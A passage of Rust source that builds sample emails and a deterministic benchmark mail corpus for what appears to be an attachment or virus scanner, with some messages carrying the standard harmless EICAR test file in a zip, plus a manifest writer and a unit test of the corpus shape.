        sample("duplicate_attachments.eml", Mail, message("Twice", "twice", &[attachment("application/pdf", "a.pdf", &clean_pdf()), attachment("application/pdf", "b.pdf", &clean_pdf())]), Accept, &[], "the same PDF twice: scanned once"),
    ];
    // Every message sample also with bare LF line endings.
    let lf: Vec<Sample> = v
        .iter()
        .filter(|s| s.kind == Mail && s.data.windows(2).any(|w| w == b"\r\n"))
        .map(|s| Sample {
            name: s.name.replace(".eml", "_lf.eml"),
            data: to_lf(&s.data),
            ..s.clone()
        })
        .collect();
    v.extend(lf);
    v
}

/// A deterministic corpus shaped like a real mail stream, for benchmarks:
/// text and HTML mail, PDFs, images, Office files and zips, a few of
/// several MB, and two in a hundred with EICAR.
pub fn corpus(count: usize, seed: u64) -> Vec<Vec<u8>> {
    let mut rng = seed | 1;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    let words = [
        "invoice",
        "meeting",
        "quarterly",
        "report",
        "please",
        "review",
        "attached",
        "thanks",
        "regards",
        "schedule",
        "budget",
        "project",
        "update",
        "customer",
        "delivery",
    ];
    let text = |n: usize, next: &mut dyn FnMut() -> u64| {
        let mut s = String::new();
        for i in 0..n {
            s.push_str(words[(next() % words.len() as u64) as usize]);
            s.push(if i % 12 == 11 { '\n' } else { ' ' });
        }
        s
    };
    let e = eicar();
    let mut out = Vec::with_capacity(count);
    for i in 0..count {
        let kind = next() % 100;
        let body = text(40 + (next() % 400) as usize, &mut next);
        let blob = |size: usize, next: &mut dyn FnMut() -> u64| -> Vec<u8> {
            // Half text, half noise by bytes: compresses about 2:1, like real
            // documents do.
            let mut v = Vec::with_capacity(size);
            while v.len() < size {
                if next().is_multiple_of(2) {
                    v.extend_from_slice(
                        b"stream BT /F1 12 Tf 72 712 Td (quarterly report) Tj ET endstream ",
                    );
                } else {
                    for _ in 0..8 {
                        v.extend_from_slice(&next().to_le_bytes());
                    }
                }
            }
            v.truncate(size);
            v
        };
        // A fifth of the mail is text only, a tenth HTML; the rest carries
        // 30-200 KB attachments (median message about 50 KB once base64),
        // one in a hundred several MB, two in a hundred EICAR in a zip.
        let msg = match kind {
            0..=19 => message(&format!("Note {i}"), &body, &[]),
            20..=29 => {
                let html = format!(
                    "<html><body><p>{}</p><a href=\"https://example.com/{i}\">link</a></body></html>",
                    body.replace('\n', "<br>")
                );
                message(
                    &format!("News {i}"),
                    &body,
                    &[Part {
                        content_type: "text/html; charset=utf-8",
                        name: None,
                        encoding: "quoted-printable",
                        data: html.as_bytes(),
                    }],
                )
            }
            30..=54 => {
                let mut pdf = clean_pdf();
                pdf.extend(blob(40_000 + (next() % 160_000) as usize, &mut next));
                message(
                    &format!("Report {i}"),
                    &body,
                    &[attachment("application/pdf", "report.pdf", &pdf)],
                )
            }
            55..=69 => {
                let mut img = png();
                img.extend(blob(30_000 + (next() % 120_000) as usize, &mut next));
                message(
                    &format!("Photo {i}"),
                    &body,
                    &[attachment("image/png", "photo.png", &img)],
                )
            }
            70..=84 => {
                let doc = zip(&[
                    ("[Content_Types].xml", b"<Types/>"),
                    (
                        "word/document.xml",
                        &blob(40_000 + (next() % 80_000) as usize, &mut next),
                    ),
                ]);
                message(
                    &format!("Draft {i}"),
                    &body,
                    &[attachment(
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        "draft.docx",
                        &doc,
                    )],
                )
            }
            85..=96 => {
                let z = zip(&[
                    ("a.csv", text(2000, &mut next).as_bytes()),
                    (
                        "b.pdf",
                        &blob(40_000 + (next() % 60_000) as usize, &mut next),
                    ),
                ]);
                message(
                    &format!("Files {i}"),
                    &body,
                    &[attachment("application/zip", "files.zip", &z)],
                )
            }
            97 => message(
                &format!("Big {i}"),
                &body,
                &[attachment(
                    "application/pdf",
                    "big.pdf",
                    &blob(3_000_000 + (next() % 2_000_000) as usize, &mut next),
                )],
            ),
            _ => message(
                &format!("Test {i}"),
                &body,
                &[attachment(
                    "application/zip",
                    "test.zip",
                    &zip(&[("eicar.com", &e)]),
                )],
            ),
        };
        out.push(msg);
    }
    out
}

/// Writes every sample and a manifest (`expected.json`) into `dir`.
pub fn write_all(dir: &std::path::Path) -> std::io::Result<usize> {
    std::fs::create_dir_all(dir)?;
    let samples = all();
    let mut manifest = Vec::new();
    for s in &samples {
        std::fs::write(dir.join(&s.name), &s.data)?;
        manifest.push(serde_json::json!({
            "file": s.name, "kind": s.kind, "expect": s.expect, "must_find": s.must_find, "about": s.about,
        }));
    }
    let text = serde_json::to_string_pretty(&manifest).map_err(std::io::Error::other)?;
    std::fs::write(dir.join("expected.json"), text)?;
    Ok(samples.len())
}

#[cfg(test)]
mod tests {
    #[test]
    fn corpus_is_shaped_as_documented() {
        let corpus = super::corpus(400, 42);
        let mut sizes: Vec<usize> = corpus.iter().map(Vec::len).collect();
        sizes.sort();
        let median = sizes[sizes.len() / 2];
        let eicar = corpus
            .iter()
            .filter(|m| crate::pipeline::identify::memfind(m, b"test.zip").is_some())
            .count();
        assert!(
            (30_000..=90_000).contains(&median),
            "median {median}: {:?}",
            &sizes[..20]
        );
        assert!(sizes[sizes.len() - 1] > 3_000_000, "no multi-MB message");
        assert!((2..=20).contains(&eicar), "{eicar} EICAR messages");
    }
}
